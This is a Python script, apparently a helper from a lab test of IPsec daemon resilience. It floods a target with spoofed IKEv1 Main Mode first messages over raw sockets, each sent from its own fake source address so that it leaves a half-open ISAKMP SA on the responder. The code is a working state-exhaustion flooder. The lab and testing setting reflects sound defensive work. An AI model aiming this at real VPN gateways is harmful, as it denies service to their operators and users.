# Main Mode flooder for MainModeFloodIT. Runs inside host A's namespace and writes Ethernet
# frames to B's MAC on the veth (AF_PACKET: no route or policy of A's daemon involved): COUNT
# first Main Mode messages (RFC 2409 §5: HDR, SA), each from its own source address in
# 198.18.64.0/18 (RFC 2544 range) with its own initiator cookie, at RATE per second. The SA
# offers what the lab policy accepts (aes128-sha256-modp2048, PSK, 8 h), so each message would
# cost B a half-open ISAKMP SA. Bounded: COUNT messages, COUNT/RATE seconds (plus scheduling).
# Prints: sent=N seconds=S
import os, socket, struct, sys, time

iface, dst, dst_mac, count, rate = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), float(sys.argv[5])
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
src_mac = open("/sys/class/net/%s/address" % iface).read().strip()
eth = bytes.fromhex(dst_mac.replace(":", "")) + bytes.fromhex(src_mac.replace(":", "")) + b"\x08\x00"


def tv(kind, value):                      # RFC 2408 §3.3: data attribute, TV form (AF = 1)
    return struct.pack("!HH", 0x8000 | kind, value)


# RFC 2409 Appendix A: 1 encryption 7 = AES-CBC (RFC 3602), 14 key length 128, 2 hash 4 = SHA2-256,
# 3 authentication 1 = pre-shared key, 4 group 14 = modp2048 (RFC 3526), 11 life type 1 = seconds, 12 duration.
attributes = tv(1, 7) + tv(14, 128) + tv(2, 4) + tv(3, 1) + tv(4, 14) + tv(11, 1) + tv(12, 28800)
transform = struct.pack("!BBHBBH", 0, 0, 8 + len(attributes), 1, 1, 0) + attributes       # KEY_IKE
proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transform), 1, 1, 0, 1) + transform      # PROTO_ISAKMP, no SPI
sa = struct.pack("!BBHII", 0, 0, 12 + len(proposal), 1, 1) + proposal                     # DOI IPsec, SIT_IDENTITY_ONLY


def checksum(h):
    t = sum(struct.unpack("!%dH" % (len(h) // 2), h))
    while t >> 16:
        t = (t & 0xFFFF) + (t >> 16)
    return (~t) & 0xFFFF


start = time.monotonic()
for i in range(count):
    src = "198.18.%d.%d" % (64 + (i // 254) % 64, 1 + i % 254)
    isakmp = os.urandom(8) + bytes(8) + struct.pack("!BBBBII", 1, 0x10, 2, 0, 0, 28 + len(sa)) + sa
    udp = struct.pack("!HHHH", 500, 500, 8 + len(isakmp), 0) + isakmp                      # checksum 0: none (IPv4)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), i & 0xFFFF, 0, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    s.send(eth + ip + udp)
    ahead = start + (i + 1) / rate - time.monotonic()
    if ahead > 0:
        time.sleep(ahead)
print("sent=%d seconds=%.1f" % (count, time.monotonic() - start))
